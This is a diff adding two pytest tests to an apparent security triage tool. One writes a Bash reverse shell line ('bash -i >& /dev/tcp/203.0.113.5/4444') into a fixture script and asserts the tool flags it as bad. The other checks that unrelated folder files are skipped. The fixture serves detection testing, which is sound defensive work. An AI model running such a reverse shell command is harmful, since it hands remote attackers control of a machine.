@@ -370,6 +370,32 @@ def test_whoever_names_a_file_gets_it_judged(secassist: Commands, inbox: Path, n
     assert found["verdict"] is not None
 
 
+@pytest.mark.parametrize("name", ["job.sh", "job", "-"])
+def test_a_shell_script_is_held_against_rules_about_command_lines(
+    secassist: Commands, inbox: Path, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    text = "#!/bin/bash\ncd /tmp\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
+    (inbox / "job").write_text(text)
+    (inbox / "job.sh").write_text(text)
+    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(text.encode())))
+    ran = secassist("triage", "-" if name == "-" else inbox / name, "--json")
+    (found,) = analyses(ran.out)
+    assert found.verdict is not None
+    assert found.verdict.floor is not None
+    assert found.verdict.disposition.is_bad
+
+
+@pytest.mark.parametrize(("name", "told"), [("x.sh", "name the file"), ("x.txt", "name the file"), ("x.py", "scan")])
+def test_what_a_folder_holds_beside_alerts_is_skipped_with_what_to_do(
+    secassist: Commands, inbox: Path, name: str, told: str
+) -> None:
+    (inbox / name).write_text("import os\n")
+    ran = secassist("triage", inbox)
+    assert ran.code == 0
+    assert f"skipped: {inbox / name}" in ran.err
+    assert told in ran.err
+
+
 def test_other_code_is_left_to_scan(secassist: Commands, inbox: Path) -> None:
     (inbox / "app.py").write_text("import os\n")
     ran = secassist("triage", inbox / "app.py")
